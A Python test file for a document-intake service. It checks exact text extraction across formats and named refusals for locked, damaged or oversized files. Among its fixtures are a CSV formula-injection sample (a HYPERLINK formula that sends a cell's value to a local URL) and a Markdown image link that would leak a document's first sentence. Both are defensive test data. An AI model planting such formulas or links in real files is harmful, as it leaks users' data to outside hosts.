"""Tests every case file of document intake with a real child: the expected text, or the reason for the refusal."""

from __future__ import annotations

import pytest

from tasks.intake import DocumentRefused, IntakePool, Kind, Limits, Refusal
from tests.support.documents.office import case_file

PIER = "The harbour committee met on the third of March to review the repair of the north pier. Costs rose from 41,000"
DANISH = "Smørrebrød, Привет, 你好. " + PIER

READ = [
    ("A08", Kind.PDF, "B\ufffdB report BB"),
    ("D03", Kind.PDF, "Loop in the cross-reference chain"),
    ("D04b", Kind.PDF, "replaced with steel. Work starts in May"),
    ("D06b", Kind.PDF, "same page again"),
    ("D08a", Kind.PDF, "replaced with steel. Work starts in May"),
    ("D08b", Kind.DOCX, PIER),
    ("D08f", Kind.TXT, PIER),
    ("D08g", Kind.DOCX, PIER),
    ("D09a", Kind.TXT, " middle  " + PIER),
    ("D09c", Kind.PDF, "Pier repair report"),
    ("D10a", Kind.TXT, "Café owner’s report — price €12, “naïve” plan."),
    ("D10b", Kind.TXT, "café très à Paris"),
    ("D11a", Kind.TXT, DANISH),
    ("D11b", Kind.TXT, DANISH),
    ("D11c", Kind.MARKDOWN, "# Title\n\n" + DANISH),
    ("D12", Kind.TXT, "会議室予約のお知らせ。来週の月曜日は休みです。\n"),
    ("D13", Kind.TXT, "הועדה החליטה לתקן את המזח (עלות: 57,500).\n\nقررت اللجنة إصلاح الرصيف (التكلفة: 57,500)."),
    ("D14", Kind.MARKDOWN, "# 👨‍👩‍👧‍👦🏳️‍🌈👋🏽👨‍👩‍👧‍👦🏳️‍🌈👋🏽"),
    ("D15a", Kind.TXT, PIER),
    ("D15b", Kind.TXT, "a" * 190_000),
    ("D17", Kind.HTML, "Café €12 <b>not bold</b>"),
    ("D18", Kind.CSV, '=HYPERLINK("http://127.0.0.1:9/?x="&A2,"open"),12,ok\n"+1+1",13,"a, quoted ""cell"""\n@SUM(1)'),
    ("W08", Kind.TXT, "![chart](http://127.0.0.1:9/c.png?q=FIRST_SENTENCE)"),
]
REFUSED = [
    ("D01_encrypted_user_password_rc4", Refusal.LOCKED),
    ("D01_encrypted_user_password_aes256", Refusal.LOCKED),
    ("D02", Refusal.NO_TEXT),
    ("D04a", Refusal.DAMAGED),
    ("D04c", Refusal.DAMAGED),
    ("D05", Refusal.TOO_MUCH_MEMORY),
    ("D06a", Refusal.TOO_MANY_PAGES),
    ("D07", Refusal.TOO_LARGE_UNPACKED),
    ("D08c", Refusal.UNSUPPORTED),
    ("D08d", Refusal.LEGACY_WORD),
    ("D08e", Refusal.IMAGE),
    ("D09b", Refusal.NO_TEXT),
    ("D16a", Refusal.EMPTY),
    ("D16b", Refusal.EMPTY),
    ("D16c", Refusal.NO_TEXT),
]


def _file_name(kind: Kind) -> str:
    """Return a name that gives the kind where content cannot, and otherwise a wrong name."""
    return {Kind.MARKDOWN: "x.md", Kind.CSV: "x.csv"}.get(kind, "x.docx" if kind == Kind.PDF else "x.pdf")


@pytest.mark.parametrize(("name", "kind", "fragment"), READ, ids=[case[0] for case in READ])
def test_the_text_comes_out_exact(pool: IntakePool, name: str, kind: Kind, fragment: str) -> None:
    reading = pool.read(case_file(name), _file_name(kind), Limits())
    assert fragment in reading.text
    assert (reading.kind, reading.facts["characters"]) == (kind, len(reading.text))
    assert "\0" not in reading.text
    reading.text.encode("utf-8")


@pytest.mark.parametrize(("name", "refusal"), REFUSED, ids=[case[0] for case in REFUSED])
def test_the_reason_for_a_refusal_is_named(pool: IntakePool, name: str, refusal: Refusal) -> None:
    with pytest.raises(DocumentRefused) as caught:
        pool.read(case_file(name), "named.txt", Limits())
    assert caught.value.code == refusal.value


def test_nothing_of_the_unseen_parts_of_a_page_is_read(pool: IntakePool) -> None:
    text = pool.read(case_file("D17"), None, Limits()).text
    assert not [word for word in text.split() if "MARKER" in word]
